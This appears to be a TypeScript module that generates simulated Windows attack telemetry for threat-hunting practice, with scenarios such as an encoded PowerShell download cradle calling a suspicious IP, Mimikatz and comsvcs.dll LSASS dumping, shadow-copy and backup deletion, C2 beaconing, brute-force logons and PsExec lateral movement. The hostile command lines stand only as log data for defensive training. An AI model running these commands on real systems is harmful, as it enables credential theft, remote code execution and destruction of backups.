import { type Attack, type AttackScenario, SECOND, SUSPICIOUS_IPS } from './hunting-attack';
import { IMAGES } from './hunting-images';

const STAGER_SCRIPT = `IEX (New-Object Net.WebClient).DownloadString('http://${SUSPICIOUS_IPS.stager}/update.ps1')`;
const ENCODED = Buffer.from(STAGER_SCRIPT, 'utf16le').toString('base64');

/** A macro starts encoded PowerShell, which downloads a stager and runs a DLL that calls home. */
function encodedPowerShell({ rng, f, t0, user, events }: Attack): void {
  const dll = `C:\\Users\\${user.name}\\AppData\\Local\\Temp\\upd${rng.int(1000, 9999)}.dll`;
  const ps = `powershell.exe -nop -w hidden -enc ${ENCODED}`;
  events.process.push(
    f.process({
      time: t0,
      image: IMAGES.powershell,
      command: ps,
      account: user,
      parent: IMAGES.winword,
      grandparent: IMAGES.explorer,
    }),
    f.process({
      time: t0 + 9 * SECOND,
      image: IMAGES.rundll32,
      command: `rundll32.exe ${dll},DllRegisterServer`,
      account: user,
      parent: IMAGES.powershell,
      parentCommand: ps,
    }),
  );
  events.network.push(
    f.network({
      time: t0 + 3 * SECOND,
      process: IMAGES.powershell,
      processCommand: ps,
      account: user,
      remoteIp: SUSPICIOUS_IPS.stager,
      remotePort: 80,
      remoteUrl: `http://${SUSPICIOUS_IPS.stager}/update.ps1`,
    }),
    f.network({
      time: t0 + 15 * SECOND,
      process: IMAGES.rundll32,
      account: user,
      remoteIp: SUSPICIOUS_IPS.c2,
      remotePort: 443,
    }),
  );
}

/** Mimikatz reads credentials from LSASS; sometimes LSASS is also dumped with comsvcs.dll. */
function credentialDumping({ rng, f, t0, user, events }: Attack): void {
  const launcher = 'powershell.exe -ExecutionPolicy Bypass';
  events.process.push(
    f.process({
      time: t0,
      image: IMAGES.powershell,
      command: launcher,
      account: user,
      parent: IMAGES.explorer,
      integrity: 'High',
    }),
    f.process({
      time: t0 + 40 * SECOND,
      image: IMAGES.mimikatz,
      command: 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
      account: user,
      parent: IMAGES.powershell,
      parentCommand: launcher,
      grandparent: IMAGES.explorer,
      integrity: 'High',
    }),
  );
  if (rng.chance(0.5)) {
    const dump = `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump ${rng.int(600, 900)} C:\\Windows\\Temp\\lsass.dmp full`;
    events.process.push(
      f.process({
        time: t0 + 95 * SECOND,
        image: IMAGES.rundll32,
        command: dump,
        account: user,
        parent: IMAGES.powershell,
        parentCommand: launcher,
        integrity: 'High',
      }),
    );
  }
}

/** Ransomware preparation: shadow copies, backups and recovery are removed. */
function ransomwarePrep({ f, t0, user, events }: Attack): void {
  const steps: Array<[keyof typeof IMAGES, string]> = [
    ['vssadmin', 'vssadmin delete shadows /all /quiet'],
    ['wmic', 'wmic shadowcopy delete'],
    ['bcdedit', 'bcdedit /set {default} recoveryenabled No'],
    ['wbadmin', 'wbadmin delete catalog -quiet'],
  ];
  const shell = `cmd.exe /c ${steps.map(([, command]) => command).join(' & ')}`;
  events.process.push(
    f.process({
      time: t0,
      image: IMAGES.cmd,
      command: shell,
      account: user,
      parent: IMAGES.wmiprvse,
      integrity: 'High',
    }),
    ...steps.map(([image, command], i) =>
      f.process({
        time: t0 + (i + 1) * 2 * SECOND,
        image: IMAGES[image],
        command,
        account: user,
        parent: IMAGES.cmd,
        parentCommand: shell,
        grandparent: IMAGES.wmiprvse,
        integrity: 'High',
      }),
    ),
  );
}

/** A DLL started by a scheduled task beacons to its server every five minutes. */
function c2Beacon({ rng, f, t0, user, events }: Attack): void {
  const command = 'rundll32.exe C:\\ProgramData\\Intel\\gfxsvc.dll,Start';
  events.process.push(
    f.process({ time: t0, image: IMAGES.rundll32, command, account: user, parent: IMAGES.taskhostw }),
  );
  for (let i = 0; i < 6; i += 1) {
    const time = t0 + (i * 300 + rng.int(5, 20)) * SECOND;
    events.network.push(
      f.network({
        time,
        process: IMAGES.rundll32,
        processCommand: command,
        account: user,
        remoteIp: SUSPICIOUS_IPS.c2,
        remotePort: 4444,
      }),
    );
  }
}

/** A burst of failed network logons from one outside address, sometimes ending in a success. */
function bruteForce({ m, rng, f, t0, user, events }: Attack): void {
  const local = m.shortName.toUpperCase();
  const names = ['administrator', 'admin', 'backup', 'scanner', user.name];
  const attempts = rng.int(12, 30);
  for (let i = 0; i < attempts; i += 1) {
    const name = rng.pick(names);
    const account = name === user.name ? user : { name, domain: local, sid: '', upn: '', isAdmin: false };
    const failureReason = name === user.name ? 'WrongPassword' : 'InvalidUserNameOrPassword';
    events.logon.push(
      f.logon({
        time: t0 + i * rng.int(3, 9) * SECOND,
        account,
        action: 'LogonFailed',
        logonType: 'Network',
        protocol: 'NTLM',
        failureReason,
        remoteIp: SUSPICIOUS_IPS.bruteForce,
      }),
    );
  }
  if (rng.chance(0.3)) {
    events.logon.push(
      f.logon({
        time: t0 + 300 * SECOND,
        account: user,
        action: 'LogonSuccess',
        logonType: 'Network',
        protocol: 'NTLM',
        remoteIp: SUSPICIOUS_IPS.bruteForce,
      }),
    );
  }
}

/** Hands-on-keyboard discovery of who is who in the domain. */
function discovery({ f, t0, user, events }: Attack): void {
  const domain = user.domain.toLowerCase();
  const steps: Array<[keyof typeof IMAGES, string]> = [
    ['whoami', 'whoami.exe /all'],
    ['net', 'net.exe group "Domain Admins" /domain'],
    ['nltest', `nltest.exe /dclist:${domain}`],
    ['net', 'net.exe localgroup administrators'],
  ];
  steps.forEach(([image, command], i) => {
    events.process.push(
      f.process({
        time: t0 + i * 20 * SECOND,
        image: IMAGES[image],
        command,
        account: user,
        parent: IMAGES.cmd,
        grandparent: IMAGES.powershell,
      }),
    );
  });
}

/** PsExec runs a SYSTEM shell on a neighbour. */
function lateralMovement({ m, rng, f, t0, user, events }: Attack): void {
  const target = `${m.subnet}.${rng.int(30, 220)}`;
  const command = `PsExec.exe \\\\${target} -accepteula -s cmd.exe`;
  events.process.push(
    f.process({
      time: t0,
      image: IMAGES.psexec,
      command,
      account: user,
      parent: IMAGES.cmd,
      grandparent: IMAGES.explorer,
      integrity: 'High',
    }),
  );
  events.network.push(
    f.network({
      time: t0 + 2 * SECOND,
      process: IMAGES.psexec,
      processCommand: command,
      account: user,
      remoteIp: target,
      remotePort: 445,
    }),
  );
}

/** Attacks on Windows machines, with their relative odds. */
export const WINDOWS_ATTACKS: readonly AttackScenario[] = [
  { weight: 5, run: encodedPowerShell },
  { weight: 3, run: credentialDumping },
  { weight: 2, run: ransomwarePrep },
  { weight: 3, run: c2Beacon },
  { weight: 3, run: bruteForce },
  { weight: 3, run: discovery },
  { weight: 1, run: lateralMovement },
];
